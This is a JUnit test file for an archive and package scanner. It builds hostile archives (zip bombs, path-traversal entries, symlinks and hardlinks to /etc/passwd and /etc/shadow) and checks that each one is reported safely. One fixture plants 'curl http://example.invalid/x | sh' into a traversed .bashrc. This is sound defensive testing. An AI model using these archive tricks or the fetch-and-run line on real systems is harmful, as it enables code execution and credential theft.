package dev.kingsnake;

import dev.kingsnake.internal.archive.TestArchives;
import dev.kingsnake.internal.archive.TestArchives.Member;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Hostile archives through the whole {@link Scanner}: no crash, no hang, the expected diagnostic. */
class HostileArchiveTest {
    private static final Duration HANG = Duration.ofSeconds(30);
    private static final String SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n";
    private static final Scanner SCANNER = Scanner.builder().build();

    private static ScanResult scan(String name, byte[] data) {
        return assertTimeoutPreemptively(HANG, () -> SCANNER.scan(name, new ByteArrayInputStream(data)));
    }

    private static Set<DiagnosticCode> codes(ScanResult r) {
        return r.diagnostics().stream().map(Diagnostic::code).collect(Collectors.toSet());
    }

    private static void assertCode(ScanResult r, DiagnosticCode code) {
        assertTrue(codes(r).contains(code), () -> "expected " + code + " in " + r.diagnostics());
    }

    @Test
    void compressionBombIsPartialNotFatal() {
        byte[] bomb = TestArchives.rawZip(List.of(TestArchives.RawEntry.zeros("demo/zeros.bin", 256),
                TestArchives.RawEntry.stored("demo/setup.py", SETUP.getBytes())));
        ScanResult r = scan("demo-1.0.zip", bomb);
        assertCode(r, DiagnosticCode.LIMIT_EXCEEDED);
        assertTrue(r.partial());
        assertNotEquals(Verdict.ERROR, r.verdict());
        assertEquals(2, r.stats().files());
        // judged by its ratio once past maxEntryBytes: cut there, not read to its 256 MiB
        assertTrue(r.stats().uncompressedBytes() < Limits.defaults().maxEntryBytes() + (4 << 20));
    }

    @Test
    void overlappingBombIsReported() {
        ScanResult r = scan("overlap.zip", TestArchives.overlappingBomb(1000, 1 << 20));
        assertCode(r, DiagnosticCode.ARCHIVE_UNREADABLE);
        assertTrue(r.stats().uncompressedBytes() <= 2 << 20, "one entry, under its central and its local name");
    }

    @Test
    void sparseTenGigabyteEntryIsCut() {
        ScanResult r = scan("sparse.tar.gz", TestArchives.gzip(TestArchives.sparseTar(10L << 30, "setup.py", SETUP)));
        assertCode(r, DiagnosticCode.LIMIT_EXCEEDED);
        assertTrue(r.stats().uncompressedBytes() <= Limits.defaults().maxEntryBytes() + (2 << 20));
    }

    @Test
    void traversalSymlinkAndHardlinkAreReportedAndScannedSafely() {
        ScanResult r = scan("evil-1.0.tar.gz", TestArchives.gzip(TestArchives.tar(List.of(
                Member.file("../../../home/user/.bashrc", "curl http://example.invalid/x | sh\n"),
                Member.file("/etc/profile.d/evil.sh", "echo hi\n"),
                Member.symlink("evil-1.0/passwd", "/etc/passwd"),
                Member.hardlink("evil-1.0/shadow", "/etc/shadow"),
                Member.file("evil-1.0/setup.py", SETUP)))));
        assertCode(r, DiagnosticCode.UNSAFE_PATH);
        assertCode(r, DiagnosticCode.LINK_ENTRY);
        assertEquals(3, r.stats().files());
        assertNotEquals(Verdict.ERROR, r.verdict());
    }

    @Test
    void encryptedEntryIsReported() {
        byte[] zip = TestArchives.markEncrypted(TestArchives.zip(List.of(Member.file("demo/setup.py", SETUP))));
        ScanResult r = scan("demo-1.0.zip", zip);
        assertCode(r, DiagnosticCode.ENCRYPTED_ENTRY);
    }

    @Test
    void brokenInputsEndAsErrorVerdictsWithAReason() {
        byte[] noise = new byte[2048];
        new Random(7).nextBytes(noise);
        noise[0] = 0x42;
        byte[] binaryPy = new byte[1024];
        new Random(8).nextBytes(binaryPy);
        for (var input : List.of(
                new Object[]{"empty-1.0.tar.gz", new byte[0]},
                new Object[]{"noise-1.0.tar.gz", noise},
                new Object[]{"really-binary.py", binaryPy})) {
            ScanResult r = scan((String) input[0], (byte[]) input[1]);
            assertEquals(Verdict.ERROR, r.verdict(), (String) input[0]);
            assertCode(r, DiagnosticCode.ARCHIVE_UNREADABLE);
        }
    }

    @Test
    void truncatedArchiveKeepsWhatWasRead() {
        List<Member> members = new ArrayList<>();
        Random random = new Random(9);
        for (int i = 0; i < 10; i++) {
            byte[] b = new byte[8000];
            random.nextBytes(b);
            members.add(Member.file("demo/f" + i + ".bin", b));
        }
        byte[] gz = TestArchives.gzip(TestArchives.tar(members));
        ScanResult r = scan("demo-1.0.tar.gz", Arrays.copyOf(gz, gz.length / 2));
        assertCode(r, DiagnosticCode.ARCHIVE_UNREADABLE);
        assertNotEquals(Verdict.ERROR, r.verdict());
        assertTrue(r.stats().files() >= 3);
    }

    @Test
    void zipNamedTarGzAndNestedArchivesAreScanned() {
        byte[] inner = TestArchives.zip(List.of(Member.file("vendored/mod.py", "x = 1\n")));
        byte[] zip = TestArchives.zip(List.of(Member.file("demo-1.0/setup.py", SETUP),
                Member.file("demo-1.0/wheels/inner.whl", inner)));
        ScanResult r = scan("demo-1.0.tar.gz", zip);
        assertEquals(List.of(), r.diagnostics());
        assertEquals(3, r.stats().files());
        assertEquals(PackageKind.SDIST, r.kind());
    }

    @Test
    void invalidUtf8SourceIsStillScanned() {
        byte[] py = "x = '\u00e9'\n".getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
        ScanResult r = scan("latin1.py", py);
        assertEquals(PackageKind.SOURCE_FILE, r.kind());
        assertNotEquals(Verdict.ERROR, r.verdict());
    }
}
